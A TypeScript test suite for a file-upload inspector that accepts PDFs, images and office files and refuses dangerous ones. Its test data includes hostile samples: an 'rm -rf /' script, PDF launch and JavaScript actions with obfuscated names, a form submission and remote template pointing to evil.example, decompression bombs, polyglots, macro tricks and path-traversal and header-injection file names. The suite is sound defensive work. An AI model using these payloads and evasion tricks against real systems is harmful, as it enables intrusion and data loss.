import { spawnSync } from 'node:child_process'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument } from 'pdf-lib'
import { describe, expect, test } from 'vitest'
import { aPackedPdf } from '#server/platform/reading/fixtures.ts'
import { fileName } from './file-name.ts'
import { aJpeg, anOfficeFile, aPdf, aPng, aZip } from './fixtures.ts'
import { inspectFile } from './inspect.ts'

const folder = mkdtempSync(join(tmpdir(), 'nhip-inspect-'))
let count = 0

function inspect(bytes: Buffer): Promise<string> {
  count += 1
  const path = join(folder, String(count))
  writeFileSync(path, bytes)
  return inspectFile({ path, size: bytes.length })
}

const refusal = (code: string) => expect.objectContaining({ code: `files.${code}` })
const latin1 = (text: string) => Buffer.from(text, 'latin1')

/** The same document whose cross-reference stream does not say that it is one, which some readers do not ask. */
function untyped(pdf: Buffer): Buffer {
  return latin1(pdf.toString('latin1').replace('/Type /XRef', '/Type /Xxxx'))
}

/** The same document saved once more, with its fifth object replaced. */
function revised(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1')
  const before = /startxref\n(\d+)/.exec(text)?.[1]
  const at = text.length
  const object = '5 0 obj\n<< >>\nendobj\n'
  const size = /\/Size (\d+)/.exec(text)?.[1]
  const table = `xref\n5 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size ${size} /Root 1 0 R /Prev ${before} >>\n`
  return latin1(`${text}${object}${table}startxref\n${at + object.length}\n%%EOF\n`)
}

/** The same document with a table for old readers; its cross-reference stream is for those who know such. */
function hybrid(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1')
  const stream = /startxref\n(\d+)/.exec(text)?.[1]
  const rows = [1, 2, 3].map(
    (number) => `${String(text.indexOf(`${number} 0 obj`)).padStart(10, '0')} 00000 n \n`,
  )
  const size = /\/Size (\d+)/.exec(text)?.[1]
  const table = `xref\n0 1\n0000000000 65535 f \n1 3\n${rows.join('')}trailer\n<< /Size ${size} /Root 1 0 R /XRefStm ${stream} >>\n`
  return latin1(`${text}${table}startxref\n${text.length}\n%%EOF\n`)
}

describe('what is accepted', () => {
  test('a PDF made by a library, with and without object streams', async () => {
    const document = await PDFDocument.create()
    document.addPage().drawText('Giay khai sinh')
    for (const useObjectStreams of [true, false]) {
      const bytes = Buffer.from(await document.save({ useObjectStreams }))
      expect(await inspect(bytes)).toBe('application/pdf')
    }
  })

  test('JPEG, PNG, DOCX and XLSX', async () => {
    expect(await inspect(aJpeg())).toBe('image/jpeg')
    expect(await inspect(aPng())).toBe('image/png')
    expect(await inspect(anOfficeFile('word/document.xml'))).toContain('wordprocessingml')
    expect(await inspect(anOfficeFile('xl/workbook.xml'))).toContain('spreadsheetml')
  })
})

describe('what is refused', () => {
  test('nothing at all', async () => {
    await expect(inspect(Buffer.alloc(0))).rejects.toEqual(refusal('empty'))
  })

  test.each([
    [
      'a Windows program that calls itself a PDF further on',
      latin1(`MZ\x90\0${'\0'.repeat(60)}%PDF-1.7\n%%EOF`),
      'program',
    ],
    ['a Linux program', latin1(`\x7fELF${'\0'.repeat(60)}`), 'program'],
    ['a script', latin1('#!/bin/sh\nrm -rf /\n'), 'program'],
    ['a web page', latin1('<!DOCTYPE html><script>alert(1)</script>'), 'web_page'],
    ['a drawing with script', latin1('<?xml version="1.0"?><svg onload="alert(1)"/>'), 'web_page'],
    ['a web page in UTF-16', Buffer.from('\ufeff<html><body>', 'utf16le'), 'web_page'],
    ['a photo of an iPhone', latin1(`\0\0\0\x18ftypheic\0\0\0\0mif1heic`), 'heic'],
    [
      'a Word file of before 2007',
      latin1('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'.padEnd(600, '\0')),
      'old_office',
    ],
    ['a RAR archive', latin1('Rar!\x1a\x07\x01\0'), 'archive'],
    ['plain text', latin1('Kinh gui Uy ban nhan dan'), 'type_not_accepted'],
  ])('%s', async (_, bytes, code) => {
    await expect(inspect(bytes)).rejects.toEqual(refusal(code))
  })

  test('a PDF that starts a program, runs a script or carries files, however the name is spelled', async () => {
    for (const action of [
      '<< /S /Launch /F (cmd.exe) >>',
      '<< /S /JavaScript /JS (app.alert(1)) >>',
      '<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >> >>',
      '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
      '<< /Type /3D /Subtype /U3D /OnInstantiate 9 0 R >>',
      '<< /S /SubmitForm /F (http://evil.example) >>',
      '<< /S /J#61va#53cript /JS (app.alert(1)) >>',
      '<< /Type /EmbeddedFile >>',
      '<< /S/GoToE/F(x.pdf) >>',
    ]) {
      await expect(inspect(aPdf([action])), action).rejects.toEqual(refusal('active_pdf'))
    }
    expect(await inspect(aPdf(['<< /S /URI /URI (https://hue.gov.vn) >>']))).toBe('application/pdf')
  })

  test('a PDF that hides the action in an object stream, also at a seam between two windows', async () => {
    const hidden = deflateSync(latin1('1 0 << /S /JavaScript /JS (app.alert(1)) >>'))
    const packed = Buffer.concat([
      latin1(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n`),
      hidden,
      latin1('\nendstream'),
    ]).toString('latin1')
    await expect(inspect(aPdf([packed]))).rejects.toEqual(refusal('active_pdf'))
    for (const shift of [10, 40, 70, 100]) {
      const filler = `(${'x'.repeat(256 * 1024 - shift)})`
      await expect(inspect(aPdf([filler, packed])), String(shift)).rejects.toEqual(refusal('active_pdf'))
    }
  })

  test('a PDF whose object streams cannot be looked into or unpack without end', async () => {
    const stream = (dictionary: string, data: Buffer) =>
      `${dictionary}\nstream\n${data.toString('latin1')}\nendstream`
    const hex = latin1(deflateSync(latin1('1 0 << /S /JavaScript >>')).toString('hex'))
    await expect(inspect(aPdf([stream('<< /Type /ObjStm /Filter /ASCIIHexDecode >>', hex)]))).rejects.toEqual(
      refusal('unreadable'),
    )
    const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20))
    await expect(
      inspect(aPdf([stream(`<< /Type /ObjStm /Filter /FlateDecode /Length ${bomb.length} >>`, bomb)])),
    ).rejects.toEqual(refusal('unpacks_too_large'))
  })

  describe('a PDF whose object stream only following the cross-references shows', () => {
    const action = { number: 5, source: '<< /S /JavaScript /JS (app.alert(1)) >>' }
    const harmless = { number: 5, source: '<< /S /URI /URI (https://hue.gov.vn) >>' }
    const cases: [string, (packed: typeof action) => Buffer][] = [
      ['without a type', (packed) => aPackedPdf([packed], { dictionary: '' })],
      ['with another type', (packed) => aPackedPdf([packed], { dictionary: '/Type /XObject' })],
      ['behind references without a type', (packed) => untyped(aPackedPdf([packed], { dictionary: '' }))],
      ['in an older revision', (packed) => revised(aPackedPdf([packed], { dictionary: '' }))],
      ['of a hybrid file', (packed) => hybrid(aPackedPdf([packed], { dictionary: '' }))],
    ]
    test.each(cases)('%s', async (_, make) => {
      await expect(inspect(make(action))).rejects.toEqual(refusal('active_pdf'))
      expect(await inspect(make(harmless))).toBe('application/pdf')
    })

    test('with a type elsewhere', async () => {
      const bytes = aPackedPdf([action], { dictionary: '/Type 6 0 R' }, ['/ObjStm'])
      await expect(inspect(bytes)).rejects.toEqual(refusal('active_pdf'))
    })

    test.skipIf(spawnSync('qpdf', ['--version']).error)('which is where qpdf finds the script', () => {
      for (const [name, make] of cases.filter(([name]) => !/older|references/.test(name))) {
        const path = join(folder, `qpdf-${name}.pdf`)
        writeFileSync(path, make(action))
        const { stdout } = spawnSync('qpdf', ['--qdf', '--object-streams=disable', path, '-'])
        expect(stdout.toString('latin1'), name).toContain('/JavaScript')
      }
    })
  })

  test('a PDF that readers would repair, where objects may be packed in it', async () => {
    const packed = aPackedPdf([{ number: 5, source: '<< >>' }]).toString('latin1')
    for (const broken of [
      packed.replace(/startxref\n\d+/, 'startxref\n7'),
      packed.replace('4 0 obj', '8 0 obj'),
      packed
        .replace('/Type /XRef', '')
        .replace('/Type /ObjStm', '')
        .replace('%%EOF', '%%EOF\nstartxref\n3\n%%EOF'),
      packed.replace('/Kids [3 0 R]', '/Kids [4 0 R]'),
      // A stream of cross-references nobody follows until the file is repaired.
      `${aPdf([]).toString('latin1').slice(0, -6)}\n9 0 obj << /Type /XRef >> endobj\n%%EOF\n`,
    ]) {
      await expect(inspect(latin1(broken)), broken.slice(-80)).rejects.toEqual(refusal('unreadable'))
    }
    // Without packed objects every byte of it has been looked at.
    const plain = aPdf([])
      .toString('latin1')
      .replace(/startxref\n\d+/, 'startxref\n7')
    expect(await inspect(latin1(plain))).toBe('application/pdf')
  })

  test('a PDF that is locked, breaks off or has an archive behind its pages', async () => {
    await expect(inspect(aPdf([], '/Encrypt 9 0 R'))).rejects.toEqual(refusal('encrypted'))
    await expect(inspect(aPdf([]).subarray(0, 60))).rejects.toEqual(refusal('unreadable'))
    const polyglot = Buffer.concat([aPdf([]), aZip([{ name: 'a.js', data: latin1('1') }], '%%EOF')])
    await expect(inspect(polyglot)).rejects.toEqual(refusal('unreadable'))
  })

  test('a picture of impossible size or without an end', async () => {
    await expect(inspect(aPng(60_000, 60_000))).rejects.toEqual(refusal('image_too_large'))
    await expect(inspect(aJpeg(20_000, 20_000))).rejects.toEqual(refusal('image_too_large'))
    await expect(inspect(aPng().subarray(0, 40))).rejects.toEqual(refusal('unreadable'))
    await expect(inspect(aJpeg().subarray(0, 20))).rejects.toEqual(refusal('unreadable'))
  })

  test('an archive that is no office file, one with macros, one with a password', async () => {
    await expect(inspect(aZip([{ name: 'a.txt', data: latin1('a') }]))).rejects.toEqual(refusal('archive'))
    await expect(
      inspect(anOfficeFile('word/document.xml', [{ name: 'word/vbaProject.bin', data: latin1('a') }])),
    ).rejects.toEqual(refusal('macros'))
    await expect(
      inspect(anOfficeFile('word/document.xml', [{ name: 'word/a.xml', data: latin1('a'), flags: 1 }])),
    ).rejects.toEqual(refusal('encrypted'))
  })

  test.each([
    [
      'a type spelt with numbers',
      'word/document.xml',
      '[Content_Types].xml',
      '<Types a="&#109;acroEnabled"/>',
    ],
    [
      'a related project of another name',
      'word/document.xml',
      'word/_rels/document.xml.rels',
      '<Relationship Type="http://x/vbaProject" Target="foo.xml"/>',
    ],
    ['sheets of macros', 'xl/workbook.xml', 'xl/macrosheets/sheet1.xml', '<x/>'],
    [
      'a template from elsewhere',
      'word/document.xml',
      'word/_rels/settings.xml.rels',
      '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>',
    ],
    ['an embedded object', 'word/document.xml', 'word/embeddings/oleObject1.bin', 'MZ'],
    ['any other program', 'word/document.xml', 'word/foo.bin', 'MZ'],
  ])('an office file with %s', async (_, main, name, data) => {
    const parts = { '[Content_Types].xml': '<Types/>', [main]: '<document/>', [name]: data }
    const file = aZip(Object.entries(parts).map(([name, data]) => ({ name, data: Buffer.from(data) })))
    await expect(inspect(file)).rejects.toMatchObject({ code: 'files.macros' })
  })

  test('an office file that unpacks to far more than it is', async () => {
    const zeros = Buffer.alloc(40 * 1024 * 1024)
    await expect(
      inspect(anOfficeFile('word/document.xml', [{ name: 'word/bomb.xml', data: zeros }])),
    ).rejects.toEqual(refusal('unpacks_too_large'))
    // The directory says one byte, the data says otherwise.
    await expect(
      inspect(anOfficeFile('word/document.xml', [{ name: 'word/lie.xml', data: zeros, declared: 1 }])),
    ).rejects.toEqual(refusal('unreadable'))
    // Thousands of small entries, and entries that share their bytes.
    const many = Array.from({ length: 2_100 }, (_, index) => ({
      name: `word/${index}.xml`,
      data: latin1('a'),
    }))
    await expect(inspect(anOfficeFile('word/document.xml', many))).rejects.toEqual(
      refusal('unpacks_too_large'),
    )
    const kernel = deflateRawSync(Buffer.from(Array.from({ length: 60_000 }, (_, i) => (i * 7919) % 251)))
    const shared = Array.from({ length: 200 }, (_, index) => ({
      name: `word/${index}.xml`,
      packed: kernel,
      crc: crc32(Buffer.alloc(0)),
      declared: 60_000,
      shared: true,
      data: Buffer.alloc(0),
    }))
    await expect(inspect(anOfficeFile('word/document.xml', shared))).rejects.toEqual(
      refusal('unpacks_too_large'),
    )
  })
})

test('a name is made safe and gets the ending of its content', () => {
  expect(fileName('C:\\Users\\lan\\Giấy khai sinh.PDF', 'application/pdf')).toBe('Giấy khai sinh.pdf')
  expect(fileName('../../etc/passwd', 'image/png')).toBe('passwd.png')
  expect(fileName('anh\u202egpj.exe', 'image/jpeg')).toBe('anhgpj.jpg')
  expect(fileName('a\r\nSet-Cookie: b.pdf', 'application/pdf')).toBe('a Set-Cookie_ b.pdf')
  expect(fileName('', 'application/pdf')).toBe('tep.pdf')
  expect(fileName('.htaccess', 'image/jpeg')).toBe('htaccess.jpg')
})
